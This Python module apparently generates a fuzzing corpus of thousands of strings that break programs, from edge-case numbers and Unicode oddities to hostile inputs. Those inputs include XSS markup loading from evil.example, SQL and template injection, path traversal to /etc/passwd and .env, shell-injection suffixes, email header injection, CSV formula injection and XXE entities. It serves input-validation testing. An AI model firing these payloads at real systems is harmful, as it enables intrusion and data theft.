"""Eight thousand texts that break programs: what people type, what machines mangle, and what is meant ill."""

import unicodedata
from itertools import islice, product
from urllib.parse import quote

# Words and signs that something between a keyboard and a page takes for something else.
MEANT_OTHERWISE = (
    "undefined", "undef", "null", "NULL", "(null)", "nil", "NIL", "None", "none", "true", "True", "TRUE",
    "false", "hasOwnProperty", "then", "constructor", "__proto__", "prototype", "toString", "__class__",
    "__init__", "self", "NaN", "nan", "Infinity", "-Infinity", "inf", "INF", "1#INF", "-1#IND", "1e309",
    "-1e309", "1E+02", "1.0e-400", "0", "1", "-1", "-0", "00", "007", "0x0", "0xffffffffffffffff", "0b1",
    "0o17", "1/0", "0/0", "1.00", "$1.00", "1,000", "1 000", "1.000,50", "1'000", "1,5", "9" * 60, "2147483648",
    "-2147483649", "9223372036854775808", "18446744073709551616", "4294967296", "0.1e1", ".5", "5.", "..", "+1",
    "1_000", "12:60", "24:00:00", "١٢٣", "๑๒๓", "१२३", "½", "²", "Ⅷ", "０１２", "1°", "1%", "100%", "%", "%%",
    "%n", "%d", "%s%s%s%s%s", "%x%x%x", "%p", "%*.*s", "{0}", "{}", "{{}}", "{name}", "{self}", "%(name)s",
    "$HOME", "${HOME}", "$1", "\\1", "\\g<0>", "%USERPROFILE%", "CON", "PRN", "AUX", "NUL", "COM1", "LPT1",
    "CLOCK$", "A:", "ZZ:", "con.txt", ".", "...", "/", "\\", "//", "~", "-", "--", "---", "-rf", "--help", "-h",
    "@", "@@", "#", "##", "#REF!", "#N/A", "!", "!!", "?", "?x=1", "&", "&&", "|", "||", ";", ":", ",", '"',
    "'", "''", "`", "``", '"""', "<", ">", "<>", "</", "/>", "<!--", "-->", "<![CDATA[", "]]>", "<?", "?>",
    "<%", "%>", "{%", "%}", "{#", "#}", "[", "]", "[]", "[[]]", "(", ")", "()", "(()", "{", "}", "^", "$", "$$",
    "*", "**", "***", "_", "__", "=", "==", "===", "+", "++", "\\n", "\\0", "\\x00", "\\u0000", "%00", "%0a",
    "%0d%0a", "&#0;", "&#10;", "&lt;", "&amp;amp;", "&nbsp;", "&notit;", "&#x41;", "&#xD800;", "\\ud800",
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","y")', "\t=1+1",
    "a\tb", "2026-02-30", "0000-00-00", "9999-12-31", "29/02/2023", "31.04.2026", "1969-12-31T23:59:59Z",
    "10000-01-01", "o'brien", "O’Brien", "d'Ávila", "van der Berg", "Nguyễn Thị Ánh", "Ñ", "ñ", "İstanbul",
    "ıI", "ß", "ẞ", "ŉ", "ﬀ", "ǆ", "Σας", "Ω", "K", "Å", "Å", "ﷺ", "ﷲ", "ﾊﾝｶｸ", "ＦＵＬＬ", "Scunthorpe",
    "Penistone", "Dick", "Null", "Test", "Robert'); DROP TABLE students;--", "Jennifer Null",
    "Christopher \"Test\" X Æ A-12", "McDonald’s", "AT&T", "C++", "<3", ">_<", ":-)", "1 < 2 > 1", "a@b",
    "a@b.c", "mailto:a@b.example", "tel:+63", "http://", "https://a.example/?q=1&r=2", "//evil.example",
    "javascript:", "data:,", "file:///", "blob:x", "view-source:x", "ftp://a:b@c.example",
)  # fmt: skip
# Scripts, directions, signs of several code points, and what only looks like something.
SCRIPTS = (
    "สวัสดีครับ", "ผู้ใหญ่ลี", "น้ำ", "ก็", "เกี๊ยว", "กำกึ่ง", "ฤๅษี", "๏ฯ๚๛", "Magandáng umaga", "ᜀᜁᜂ", "ñgayón",
    "你好，世界", "繁體中文", "日本語テスト", "ハローワールド", "안녕하세요", "각", "Привет", "Здравствуйте",
    "Γειά σου", "שלום עולם", "مرحبا بالعالم", "اَلْعَرَبِيَّةُ", "नमस्ते", "ক্ষ", "தமிழ்", "తెలుగు", "ಕನ್ನಡ", "മലയാളം",
    "සිංහල", "ភាសាខ្មែរ", "ພາສາລາວ", "မြန်မာ", "བོད་", "ქართული", "Հայերեն", "አማርኛ", "ᏣᎳᎩ", "ᓀᐦᐃᔭᐍᐏᐣ", "𐐜 𐐔𐐇𐐝",
    "𓀀𓂀", "𒀀", "𝕳𝖊𝖑𝖑𝖔", "ⓗⓔⓛⓛⓞ", "Ｈｅｌｌｏ", "ʇxǝʇ", "ᵗⁱⁿʸ", "ₛᵤᵦ", "😀", "👍🏽", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇵🇭",
    "🇹🇭", "🇵", "❤️", "☺︎", "1️⃣", "🧑🏿‍🚀", "🫠", "♫☃★", "¡¿«»„“‚‘", "–—―…", "€£¥₱฿₿", "±×÷∑∞≠√", "←↑→↓", "□■▲",
    "½⅓¼", "Ǻ", "ệ", "Z̤͔ͧ̑̓a̴̵̞l̡͖ğ̀ͅo͜͠", "a" + "\u0301" * 60, "ก" + "็" * 40, "e\u0301", "\u0301start", "a\u200db",
    "a\u200cb", "a\u00adb", "a\u2060b", "a\u00a0b", "a\u3000b", "a\u202fb", "a\u180eb", "\u115f\u1160",
    "\u3164", "\u2800", "a\u034fb", "\u202eexe.gpj", "\u2067x\u2069", "\u200fabc", "\u200eabc", "\ufeffbom",
    "\ufffd", "\uffff", "\ufdd0", "\ue000", "\U000f0000", "\U0010ffff", "\u0085", "\u2028", "\u2029", "a\vb",
    "a\fb", "a\x1bb", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x7f", "\x08\x08", "a\rb", "a\nb", "a\r\nb",
    "\n", "\r\n\r\n", " ", "  ", "\t", " a ", "\u00a0", "a  b", "а", "раураl", "ѕcope",
    "ｅｖｉｌ．ｅｘａｍｐｌｅ",
)  # fmt: skip
LENGTHS = (2, 63, 64, 199, 200, 201, 255, 256, 500, 501, 1000, 4096, 10_001)
TRANSFORMS = {
    "upper case": str.upper,
    "backwards": lambda text: text[::-1],
    "twice": lambda text: text + text,
    "within words": lambda text: f"before {text} after",
    "taken apart": lambda text: unicodedata.normalize("NFD", text),
    "wide": lambda text: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text),
    "percent": lambda text: quote(text, safe=""),
    "entities": lambda text: "".join(f"&#{ord(c)};" for c in text),
}
ALERT = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "eval(atob('YWxlcnQoMSk='))", "import('//evil.example')")
MARKUP = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example/x></script>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<svg/onload={}//", "<body onload={}>", "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>", "<a href=javascript:{}>x</a>", "<a href='java&#9;script:{}'>x</a>",
    "<input autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}>",
    "<math><mtext></table><mglyph><style><img src=x onerror={}>", "<object data='data:text/html,{}'>",
    "<embed src=javascript:{}>", "<form action=javascript:{}><button>x", "<button formaction=javascript:{}>x",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/>", "<style>@import '//evil.example';</style>",
    "<div style='background:url(//evil.example)'>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<div hx-get=//evil.example hx-trigger=load>",
    "<div hx-on::load='{}'>", "<marquee onstart={}>", "<table background=javascript:{}>",
    "<xmp><img src=x onerror={}></xmp>", "<x onclick={}>x", "javascript:{}", "JaVaScRiPt:{}",
    "data:text/html,<script>{}</script>", "vbscript:{}", "jav\tascript:{}", "\x01javascript:{}",
    "[x](javascript:{})", "![x](//evil.example/x.png)", "<javascript:{}>",
)  # fmt: skip
BREAKS = ("", "'", '"', "'>", '">', "</textarea>", "</title>", "</script>", "-->", "*/", "`", "]]>")
COUNTED = (
    "7*7", "191*7", "'a'.upper()", "self", "config", "request.environ", "''.__class__.__mro__",
    "cycler.__init__",
)  # fmt: skip
TEMPLATES = (
    "{{{{{}}}}}", "{{%print({})%}}", "{{# {} #}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{{}}}",
    "{{{{{{{}}}}}}}", "@({})", "[[{}]]", "%({})s", "{{0.{}}}", "$({})", "*{{{}}}", "{{php}}{}{{/php}}",
    "<?= {} ?>", "#({})", "#set $x({})", "~{{{}}}", "\\input{{{}}}", "#read(\"{}\")", "{{{{ {} | safe }}}}",
    "{{%- set x = {} -%}}", "${{{{{}}}}}", "{{{{[{}]}}}}",
)  # fmt: skip
QUOTED = ("'", '"', "", "')", "\\'", "%27", "1", "1)", "'))", "’")
STATEMENTS = (
    " OR 1=1", " OR '1'='1", " AND 1=0", " UNION SELECT NULL", " UNION ALL SELECT 1,2,3,sqlite_version()",
    "; DROP TABLE account", "; SELECT pg_sleep(9)", " || (SELECT 1)", " AND randomblob(100000000)",
    " ORDER BY 99", " HAVING 1=1", " LIKE '%'", " COLLATE NOCASE", "; ATTACH DATABASE '/tmp/x' AS x",
    "; COPY account TO PROGRAM 'id'", " AND (SELECT 1 FROM pg_user)", " IS NOT NULL", " GLOB '*'", " MATCH 'x'",
    " ESCAPE '", "; PRAGMA writable_schema=1", " AND CAST(version() AS int)=1", " OR true", " IN (SELECT 1)",
    "; VACUUM INTO '/tmp/x'", " NEAR(a b, 2)",
)  # fmt: skip
ENDS = ("", " --", " #", "/*", ";")
UPWARD = ("../", "..\\", "..%2f", "%2e%2e/", "....//", "..%c0%af", "..;/", "/", "file:///", "\\\\evil.example\\")
PLACES = (
    "etc/passwd", "etc/shadow", "proc/self/environ", "var/suki.db", "config.py", ".env", ".git/config",
    "windows/win.ini", "boot.ini", "dev/null", "dev/random", "tmp/x", "secret", "files/1", "WEB-INF/web.xml",
)  # fmt: skip
SHELL = (
    "; id", "| id", "|| id", "& id", "&& id", "`id`", "$(id)", "\nid", "%0aid", "<(id)", "> /tmp/x",
    "--output=/tmp/x",
)  # fmt: skip
HEADERS = (
    "\r\nBcc: x@evil.example", "\nBcc: x@evil.example", "\rSet-Cookie: a=b", "%0d%0aX: y", "\u0085X: y",
    "\u2028X: y",
)  # fmt: skip
XML = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>', "&y;",
    "<x:include href='x'/>", '<!ENTITY % p SYSTEM "http://evil.example/x">%p;',
    "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
)  # fmt: skip
KINDS_OF_CHARACTER = ("Cc", "Cf", "Zs", "Zl", "Zp", "Me", "Mn", "Mc")
CHARACTERS = 2_700


def naughty():
    """What breaks programs without anybody's ill will, and each of it in eight other shapes: (name, text)."""
    plain = [*MEANT_OTHERWISE, *SCRIPTS]
    plain += ["x" * n for n in LENGTHS] + ["ก" * n for n in LENGTHS] + ["😀" * n for n in LENGTHS]
    plain += [f"{a}{b}" for a, b in product(HEADERS, ("", "\r\n\r\nbody", " "))]
    plain += [f"x{end}" for end in SHELL] + list(XML)
    plain += [f"{a} {b}" for a, b in product(SCRIPTS[:12], ("שלום", "\u202d1\u202c", "👍🏽", "e\u0301"))]
    for n, text in enumerate(dict.fromkeys(plain)):
        yield f"naughty {n}", text
        for shape, transform in TRANSFORMS.items():
            yield f"naughty {n}, {shape}", transform(text)


def characters():
    """Each control, format, space and combining character between two letters, as many as asked: (name, text)."""
    for kind in KINDS_OF_CHARACTER:
        for code in range(0x110000):
            if unicodedata.category(chr(code)) == kind:
                yield f"character U+{code:04X} ({kind})", f"a{chr(code)}b"


def crafted():
    """What is meant ill: markup, templates, SQL and paths: (name, text)."""
    for n, (broken, tag, turn) in enumerate(product(BREAKS, MARKUP, (0, 2))):
        yield f"markup {n}", broken + tag.format(ALERT[(n + turn) % len(ALERT)])
    for n, (template, counted) in enumerate(product(TEMPLATES, COUNTED)):
        yield f"template {n}", template.format(counted)
    for n, (sign, statement, end) in enumerate(product(QUOTED, STATEMENTS, ENDS)):
        if n % 2:
            yield f"sql {n}", f"1{sign}{statement}{end}"
    for n, (up, place) in enumerate(product(UPWARD, PLACES)):
        yield f"path {n}", up * (1 + n % 8) + place
        yield f"path {n}, ended", up * 3 + place + ("%00.png", "\0.pdf", "?.csv", "#", "/.")[n % 5]


def all(rng):
    """Every text once, in the order of chance: [(name, text)]."""
    found = [*naughty(), *islice(characters(), CHARACTERS), *crafted()]
    unique = list({text: (name, text) for name, text in found if sendable(text)}.values())
    rng.shuffle(unique)
    return unique


def sendable(text):
    """Whether a browser could send it at all: a lone half of a pair has no UTF-8."""
    return not any(0xD800 <= ord(letter) <= 0xDFFF for letter in text)
